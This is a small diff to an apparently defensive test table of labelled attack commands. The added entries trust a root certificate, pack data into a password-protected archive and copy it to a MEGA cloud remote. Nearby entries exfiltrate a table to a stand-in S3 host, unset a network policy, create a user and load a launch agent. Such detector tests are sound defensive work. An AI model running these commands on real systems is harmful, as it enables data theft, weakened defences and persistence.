@@ -72,6 +72,9 @@ const ATTACKS: readonly (readonly [name: string, command: string])[] = [
   ['data_to_elsewhere', "COPY INTO 's3://a.example/x' FROM customers"],
   ['database_unguarded', 'ALTER ACCOUNT UNSET NETWORK_POLICY'],
   ['account_in_database', 'CREATE USER eve PASSWORD = x'],
+  ['certificate_trusted', 'security add-trusted-cert -d -r trustRoot -k x ca.pem'],
+  ['packed_with_password', '7z.exe a -t7z x.7z C:\\data -pSecret'],
+  ['copied_to_cloud', 'rclone.exe copy C:\\data mega:x'],
   ['agent_loaded', 'launchctl load /Users/ada/Library/LaunchAgents/x.plist'],
 ]; // prettier-ignore
 
